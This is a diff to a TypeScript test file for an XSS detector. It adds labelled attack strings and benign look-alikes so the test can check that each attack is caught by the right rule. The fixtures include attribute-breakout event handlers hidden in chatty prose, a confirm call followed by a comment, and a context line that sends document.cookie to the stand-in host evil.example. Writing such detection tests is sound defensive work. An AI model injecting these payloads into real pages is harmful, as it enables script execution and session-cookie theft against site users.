@@ -38,6 +38,11 @@ const attacks: [string, string][] = [
   ['color:red;width:expression(prompt(8))', 'xss-css'],
   ['" onclick="window.onerror=confirm;throw 1" x="', 'xss-event-handler'],
   ["c=document.cookie;location='//evil.example/?'+c", 'xss-js-eval'],
+  // prose around a breakout or after a line comment is cover, not context
+  ['thanks for the quick reply " onfocus=prompt(1) autofocus="', 'xss-event-handler'],
+  ['x contextmenu=x onshow=prompt(1)>right click me please', 'xss-event-handler'],
+  ['confirm(1)// nothing to see here, move along', 'xss-js-call'],
+  ['https://example.com/?prompt.call(null,1)', 'xss-js-call'],
   // handlers injected into an attribute, without a tag of their own
   ['" onfocus="confirm(9)" autofocus="', 'xss-event-handler'],
   ["x' onpointerover=prompt`9` '", 'xss-event-handler'],
@@ -109,6 +114,9 @@ const benign = [
   'a regular expression (regex) tutorial',
   "set location = 'Dublin' in your cookie settings page",
   'background: url(/img/hero.png) no-repeat; color: #333',
+  "if (confirm('Delete this row?')) form.submit()",
+  "why does eval('2 + 2') return 4 here",
+  'onChange={e => setName(e.target.value)}',
 ]
 
 test('XSS: attacks are found with the right rule', () => {
